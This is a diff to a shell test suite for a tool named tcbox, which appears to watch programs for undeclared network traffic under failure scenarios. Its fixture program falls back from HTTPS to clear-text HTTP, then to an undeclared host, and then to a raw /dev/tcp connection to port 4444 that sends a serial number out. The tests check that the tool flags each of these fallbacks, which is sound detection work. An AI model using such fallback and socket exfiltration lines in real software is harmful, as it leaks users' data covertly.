@@ -79,6 +79,70 @@ run 3 "the control of that: attempts prove nothing" --scenario refused --policy 
 run 0 "a scenario under --enforce" --enforce --scenario refused --policy "$dir/web.json" -- sh -c "$http; true"
 holds "the control passes both" "$watched"
 
+# Several: a product that is honest only while TLS works. Declared is https to up.acme.example.
+cat >"$work/uploader" <<'P'
+#!/bin/bash
+d="serial=0815"
+echo "I am uploading"
+curl -fsS -m 5 -o /dev/null --data "$d" https://up.acme.example/ && exit 0
+curl -fsS -m 5 -o /dev/null --data "$d" http://up.acme.example/ && exit 0
+curl -fsS -m 5 -o /dev/null --data "$d" http://mirror.other.example/ && exit 0
+exec 3<>/dev/tcp/203.0.113.66/4444 && echo "$d" >&3
+P
+chmod 755 "$work/uploader"
+sed 's/a\.example/up.acme.example/' "$dir/web.json" >"$dir/up.json"
+"$TCBOX" run --scenario tls-expired,refused,lossy --policy "$dir/up.json" --output "$dir/set" -- "$work/uploader" >"$out" 2>"$err" </dev/null
+check "several scenarios, one of which violates" test $? = 1
+check "each has a bundle, and so has that in which nothing goes wrong" test -e "$dir/set/normal.tcbox/report.json" \
+	-a -e "$dir/set/tls-expired.tcbox/report.json" -a -e "$dir/set/refused.tcbox/report.json" -a -e "$dir/set/lossy.tcbox/report.json"
+check "what the product prints is in its bundle" grep -q "I am uploading" "$dir/set/lossy.tcbox/stdout.log"
+check "and nowhere else" sh -c '! grep -q "I am uploading" "$@"' sh "$out" "$err"
+says "the comparison is for people" "$err" "that normal does not show"
+check "its JSON is what the schema says" python3 "$lib/schema.py" "$here/../../doc/schema/tcbox-across-1.schema.json" "$dir/set/comparison.json"
+shows() {	# NAME EXPRESSION: of the comparison
+	check "$1" python3 - "$dir/set/comparison.json" "$2" <<-'P'
+		import json, sys
+		class Mark(dict):
+		    __getattr__ = dict.get
+		c = json.load(open(sys.argv[1]), object_hook=Mark)
+		def marks(kind, what, how="under"):
+		    return [m for m in c.differences if m.kind == kind and m.how == how and m.what.startswith(what)]
+		def only(kind, what, *runs):
+		    return [sorted(m.runs) for m in marks(kind, what)] == [sorted(runs)]
+		sys.exit(not eval(sys.argv[2]) and str(c.differences)[:2000])
+	P
+}
+shows "four runs, in their order" "[r.name for r in c.runs] == ['normal', 'tls-expired', 'refused', 'lossy']"
+shows "the clear text shows only when TLS or all fails" "only('destinations', 'up.acme.example port 80', 'tls-expired', 'refused')"
+shows "it is marked as clear" "all(m.clear for m in marks('destinations', 'up.acme.example port 80'))"
+shows "the second host shows only when all fails" "only('names', 'mirror.other.example', 'refused') and only('destinations', 'mirror.other.example port 80', 'refused')"
+shows "so does the address" "only('destinations', '203.0.113.66 port 4444', 'refused')"
+shows "each is a finding under its scenario only" \
+	"only('findings', 'NET-UNDECLARED: /usr/bin/curl tried to reach mirror.other.example port 80', 'refused')"
+shows "what normal has is no difference" "not marks('destinations', 'up.acme.example port 443')"
+"$TCBOX" diff --format json "$dir"/set/normal.tcbox "$dir"/set/tls-expired.tcbox "$dir"/set/refused.tcbox "$dir"/set/lossy.tcbox >"$dir/again.json"
+same "tcbox diff makes the same comparison of the bundles" "$dir/again.json" "$dir/set/comparison.json"
+"$TCBOX" run --scenario reset,cut --policy "$dir/web.json" --output "$dir/set" -- true >"$out" 2>"$err"
+check "evidence is never overwritten" test $? = 2
+"$TCBOX" run --scenario reset,cut --output "$dir/none" -- "$work/not-there" >"$out" 2>"$err"
+check "what is wrong with the command" test $? = 127
+check "is said once" test "$(grep -c "not-there" "$err")" = 1
+"$TCBOX" run --scenario reset,cut --state case -- true >"$out" 2>"$err"
+check "a kept state is of single runs" test $? = 2
+# The bundles of other scenarios are not seen by a product that is started where they lie.
+(cd "$dir" && "$TCBOX" run --scenario reset,cut --bind "$dir" --output "$dir/seen" -- sh -c "ls $dir/seen 2>/dev/null; ls $dir") >"$out" 2>"$err"
+check "a product does not see what other scenarios left" sh -c '! grep -q "tcbox$" "$1"' sh "$dir/seen/cut.tcbox/stdout.log"
+check "the control: it sees what lies beside them" grep -q web.json "$dir/seen/cut.tcbox/stdout.log"
+# An interrupt ends the set, not the evidence.
+"$TCBOX" run --scenario reset,cut,slow --output "$dir/cut" -- sh -c 'echo here; sleep 60' >"$out" 2>"$err" &
+set_pid=$!
+until_true 20 grep -q here "$dir/cut/normal.tcbox/stdout.log"
+kill -TERM $set_pid
+wait $set_pid
+check "an interrupted set is not conclusive" test $? = 3
+check "the run that went on has its bundle" grep -q '"interrupted": true' "$dir/cut/normal.tcbox/run.json"
+check "no other was begun" test ! -e "$dir/cut/reset.tcbox"
+
 "$TCBOX" run --scenario tls -- true >"$out" 2>"$err"
 check "an unknown scenario is wrong usage" test $? = 2
 says "and all are named" "$err" "captive-portal"
